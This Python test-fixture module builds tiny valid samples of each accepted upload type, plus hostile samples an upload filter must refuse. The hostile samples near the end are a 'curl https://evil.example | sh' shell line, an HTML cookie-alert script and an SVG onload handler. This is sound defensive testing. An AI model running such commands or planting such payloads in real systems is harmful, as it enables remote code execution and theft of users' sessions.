"""Small but well-formed files of every accepted upload type, and the hostile contents uploads must refuse."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1 pixel, 8-bit RGB
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
            + chunk(b"IEND", b""))


def zipped(members: dict[str, str], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            # OpenDocument's `mimetype` goes first and uncompressed, as office suites write it.
            archive.writestr(name, content, compress_type=zipfile.ZIP_STORED if name == "mimetype" else compression)
    return buffer.getvalue()


def ooxml(folder: str) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>", f"{folder}/main.xml": "<x/>"})


def odf(kind: str) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<office/>"})


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("notes.txt")
        member.size = 5
        archive.addfile(member, io.BytesIO(b"notes"))
    return buffer.getvalue()


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\0" * 32 + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
GZIP = gzip.compress(b"notes")
DOCX = ooxml("word")
PLAIN_ZIP = zipped({"notes.txt": "notes"})

# Every accepted extension: a valid sample and the mime type it is stored with.
ACCEPTED = {
    "jpg": (JPEG, "image/jpeg"),
    "jpeg": (JPEG, "image/jpeg"),
    "png": (png(), "image/png"),
    "gif": (GIF, "image/gif"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\0" * 24, "image/webp"),
    "bmp": (b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + b"\x28" + b"\0" * 51, "image/bmp"),
    "tif": (b"II*\x00\x08\x00\x00\x00" + b"\0" * 16, "image/tiff"),
    "tiff": (b"MM\x00*\x00\x00\x00\x08" + b"\0" * 16, "image/tiff"),
    "heic": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 16, "image/heic"),
    "heif": (b"\x00\x00\x00\x18ftypheix\x00\x00\x00\x00mif1heix" + b"\0" * 16, "image/heif"),
    "avif": (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\0" * 16, "image/avif"),
    "pdf": (PDF, "application/pdf"),
    "doc": (OLE2, "application/msword"),
    "xls": (OLE2, "application/vnd.ms-excel"),
    "ppt": (OLE2, "application/vnd.ms-powerpoint"),
    "docx": (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": (ooxml("xl"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "pptx": (ooxml("ppt"), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    "odt": (odf("text"), "application/vnd.oasis.opendocument.text"),
    "ods": (odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    "odp": (odf("presentation"), "application/vnd.oasis.opendocument.presentation"),
    "rtf": (b"{\\rtf1\\ansi Notes}", "application/rtf"),
    "csv": (b"id,name\n1,Ada\n", "text/csv"),
    "txt": ("Notes, café ✓\n".encode(), "text/plain"),
    "md": (b"# Notes\n\n- one\n", "text/markdown"),
    "json": (b'{"notes": [1, 2]}', "application/json"),
    "zip": (PLAIN_ZIP, "application/zip"),
    "gz": (GZIP, "application/gzip"),
    "tgz": (gzip.compress(tar()), "application/gzip"),
    "tar": (tar(), "application/x-tar"),
    "bz2": (bz2.compress(b"notes"), "application/x-bzip2"),
    "xz": (lzma.compress(b"notes"), "application/x-xz"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24, "application/x-7z-compressed"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 24, "application/vnd.rar"),
    "eml": (b"From: ada@example.com\r\nTo: bob@example.com\r\nSubject: Notes\r\n\r\nHello\r\n", "message/rfc822"),
}

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 54 + b"PE\0\0"
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 24
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
XML_SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
